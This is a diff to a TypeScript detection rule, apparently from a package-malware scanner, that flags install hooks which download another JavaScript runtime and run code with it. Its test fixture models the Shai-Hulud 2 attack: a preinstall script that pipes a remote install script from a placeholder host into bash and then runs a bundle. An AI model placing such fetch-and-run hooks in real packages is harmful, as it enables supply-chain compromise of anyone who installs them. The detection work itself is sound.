@@ -1,5 +1,3 @@
-import { seesNear } from '../../facts/artifact-facts';
-import { hooks, sightings } from '../traces';
 import type { Rule } from '../rule';
 
 export const hookDownloadedRuntime: Rule = {
@@ -8,9 +6,37 @@ export const hookDownloadedRuntime: Rule = {
   kind: 'install-hook',
   severity: 'critical',
   verdict: 'malicious',
+  tactic: 'command-and-control',
+  capabilities: ['network', 'subprocess'],
+  languages: ['javascript', 'python', 'shell', 'gyp'],
   summary: 'An install hook fetches another JavaScript runtime and runs code with it.',
-  judge: (facts) =>
-    sightings(hooks(facts), 'fetches another runtime and runs it', (trace) =>
-      seesNear(trace, ['network', 'package-manager'], ['foreign-runtime']),
-    ),
+  message: 'fetches another runtime and runs it',
+  pattern: { where: 'hooks', any: ['foreign-runtime'], near: ['network', 'package-manager'] },
+  samples: {
+    hits: [
+      {
+        what: 'another runtime fetched (Shai-Hulud 2)',
+        format: 'tarball',
+        manifest: { scripts: { preinstall: 'node setup_bun.js' } },
+        files: {
+          'setup_bun.js':
+            'const { execSync } = require("child_process"); execSync("curl -fsSL https://bun.invalid/install | bash"); execSync("bun run bundle.js")',
+          'bundle.js': 'x()',
+        },
+        verdict: 'malicious',
+        speaks: ['hook-remote-code'],
+      },
+    ],
+    ignores: [
+      {
+        what: 'another runtime expected',
+        format: 'tarball',
+        manifest: { scripts: { postinstall: 'bun run postinstall.ts' } },
+        files: { 'postinstall.ts': 'console.log("built" as string)' },
+        why: 'The runtime has to be there already; nothing is fetched.',
+        verdict: 'suspicious',
+        speaks: ['hook-foreign-runtime'],
+      },
+    ],
+  },
 };
